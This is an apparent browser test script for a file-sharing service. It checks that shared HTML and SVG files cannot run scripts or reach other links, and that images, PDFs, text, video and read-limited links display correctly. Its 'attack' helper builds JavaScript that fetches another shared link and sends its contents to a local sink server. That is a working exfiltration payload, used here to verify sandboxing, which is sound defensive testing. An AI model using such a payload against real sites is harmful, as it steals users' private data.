"""See browser.sh."""

import http.server
import os
import subprocess
import sys
import threading
import urllib.request

import programs
from programs import WORK, finish, is_so, wait_until
from webdriver import Browser
from website import Site

shots = sys.argv[1]


class Sink(http.server.ThreadingHTTPServer):
    """Where documents try to send what they find out; and the control, a server that hands them out as they are."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Answer)
        self.heard, self.documents = [], {}
        self.url = f"http://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        media, body = self.server.documents.get(self.path, ("text/plain", b""))
        if not body:
            self.server.heard.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", media)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def attack(name, other):
    """What a document does to reach another link, and to tell somebody."""
    return (
        f"document.title = 'ran';\n"
        f"new Image().src = '{sink.url}/{name}/script';\n"
        f"fetch('{other}').then(it => it.text()).then(it => fetch('{sink.url}/{name}/stolen?' + encodeURIComponent(it)));\n"
    )


def page(name, other):
    return (
        f"<!doctype html><meta charset=utf-8><title>A shared page</title><style>h1 {{ color: rgb(0, 128, 0) }}</style>\n"
        f"<meta http-equiv=refresh content='2;url={sink.url}/{name}/refresh'>\n"
        f"<link rel=stylesheet href='{sink.url}/{name}/style'>\n"
        f"<h1 id=head>Grüße aus der Seite 👋</h1><img id=own src='data:image/png;base64,{DOT}' width=60 height=60>\n"
        f"<img src='{sink.url}/{name}/image' onerror=\"document.title='ran'\"><iframe src='{other}'></iframe>\n"
        f"<form id=form action='{sink.url}/{name}/form'><input name=x><button id=send>Send</button></form>\n"
        f"<script>{attack(name, other)}</script>\n"
    ).encode()


def drawing(name, other):
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' width='300' height='200'><title>A drawing</title>\n"
        f"<rect width='300' height='200' style='fill: rgb(0, 128, 0)'/><circle cx='150' cy='100' r='60' fill='white'/>\n"
        f"<image href='{sink.url}/{name}/image' width='10' height='10'/>\n"
        f"<script>{attack(name, other)}</script></svg>\n"
    ).encode()


# A green dot.
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkaPhfDwADAgGAXS0lOAAAAABJRU5ErkJggg=="


def pdf():
    """A page with a line on it."""
    content = b"BT /F1 32 Tf 60 700 Td (A shared PDF) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 6\n0000000000 65535 f \n%strailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def ffmpeg(*arguments):
    subprocess.run(["ffmpeg", "-loglevel", "error", "-y", *arguments], check=True, stdin=subprocess.DEVNULL, timeout=300)


def share(key, value, *options):
    site.store.run("set", key, data=value, expect=0)
    return site.link(key, *options)


def see(name, url):
    browser.open(url)
    browser.shoot(f"{shots}/{name}.png")


def documents_do_nothing():
    """A script runs, and reads another address, where a server hands documents out as they are; here it does not."""
    other = share("secret.txt", b"the value of another link")
    for kind, media, make in (("html", "text/html", page), ("svg", "image/svg+xml", drawing)):
        name = f"control-{kind}"
        sink.documents["/other"] = ("text/plain", b"another document")
        sink.documents[f"/{name}"] = (media, make(name, sink.url + "/other"))
        browser.open(f"{sink.url}/{name}")
        control = wait_until(lambda: any(f"/{name}/stolen?another" in it for it in sink.heard), 15)
        is_so(f"the control does nothing, so this proves nothing: {sink.heard}", control)

        see(kind, share(f"shared.{kind}", make(kind, other)))
        is_so(f"a script in {kind} ran: the title is {browser.title()}", browser.title() != "ran")
        green = "return getComputedStyle(document.querySelector('h1, rect'))[arguments[0]]"
        colour = browser.ask("POST", "/execute/sync", {"script": green, "args": ["color" if kind == "html" else "fill"]})
        is_so(f"{kind} lost its own style: {colour}", colour == "rgb(0, 128, 0)")
        if kind == "html":
            is_so("an image of the page's own is not shown", browser.run("return document.getElementById('own').naturalWidth") == 1)
            browser.click("#send")
        # Longer than the refresh takes: what does not happen can only be waited for.
        wait_until(lambda: any(it.startswith(f"/{kind}/") for it in sink.heard), 4)
        told = [it for it in sink.heard if it.startswith(f"/{kind}/")]
        is_so(f"a shared {kind} reached others: {told}", not told)
        is_so(f"a shared {kind} has an origin", browser.run("return self.origin") == "null")


def values_are_shown():
    ffmpeg("-f", "lavfi", "-i", "testsrc=size=320x240:rate=1", "-frames:v", "1", f"{WORK}/picture.png")
    with open(f"{WORK}/picture.png", "rb") as file:
        see("image", share("photos/picture", file.read()))
    is_so("an image is not shown", browser.run("return document.images[0]?.naturalWidth") == 320)

    # The viewer is out of reach of scripts; around its page it is dark.
    browser.open(share("paper.pdf", pdf()))
    is_so("a PDF is not shown", wait_until(lambda: browser.white() > 0.3, 30))
    browser.shoot(f"{shots}/pdf.png")

    text = "Grüße 👋🏽 — 日本語, עברית\n<b>not bold</b>\n"
    see("text", share("notes/today.md", text.encode()))
    is_so("a text is shown as something else", browser.run("return document.body.innerText").strip() == text.strip())
    is_so("a text is not shown as UTF-8", browser.run("return document.characterSet") == "UTF-8")


def video_seeks():
    noise = "testsrc=size=640x360:rate=25:duration=60,noise=alls=40:allf=t"
    ffmpeg("-f", "lavfi", "-i", noise, "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", f"{WORK}/film.mp4")
    with open(f"{WORK}/film.mp4", "rb") as file:
        value = file.read()
    see("video", share("film.mp4", value))
    at = "const film = document.querySelector('video');"
    # A page that is a video begins to play by itself.
    is_so("a video does not load", wait_until(lambda: browser.run(at + "return film.readyState >= 2"), 30))
    is_so("a video has another length", round(browser.run(at + "return film.duration") or 0) == 60)
    for place in (50, 5, 58, 30):
        browser.run(f"{at} film.pause(); film.currentTime = {place};")
        there = f"{at} return !film.seeking && film.readyState >= 2 && Math.abs(film.currentTime - {place}) < 0.1"
        is_so(f"a video does not seek to {place} s", wait_until(lambda: browser.run(there), 30))
    browser.shoot(f"{shots}/video-at-30.png")
    return len(value) >> 20


def limited_link():
    url = share("once.txt", b"only twice", "--reads", "2")
    for _ in range(3):
        see("limited", url)
    is_so(f"the page of a limited link is {browser.title()}", "only so often" in browser.title())
    is_so("looking counts", "2 more times" in browser.run("return document.body.innerText"))
    urllib.request.urlopen(urllib.request.Request(url, method="HEAD")).close()
    browser.click("button")
    is_so("the button does not give the value", wait_until(lambda: "only twice" in browser.run("return document.body.innerText"), 10))
    browser.shoot(f"{shots}/opened.png")
    see("limited-once", url)
    is_so("the button does not count", "once more" in browser.run("return document.body.innerText"))
    browser.click("button")
    is_so("the second time gives nothing", wait_until(lambda: "only twice" in browser.run("return document.body.innerText"), 10))
    see("used-up", url)
    is_so(f"a link that is used up shows {browser.title()}", "as often as it could be" in browser.title())
    site.store.run("rm", "notes/today.md", expect=0)
    see("unknown", f"http://127.0.0.1:{site.port}/get?q=0")
    is_so(f"no link shows {browser.title()}", "no such link" in browser.title())


sink, site, browser = Sink(), Site("server"), Browser()
documents_do_nothing()
values_are_shown()
film = video_seeks()
limited_link()
browser.end()
version = subprocess.run([os.environ["CHROMIUM"], "--version"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
finish("browser", f"{programs.looks} things that are so in {version.stdout.decode().strip()}, a film of {film} MiB")
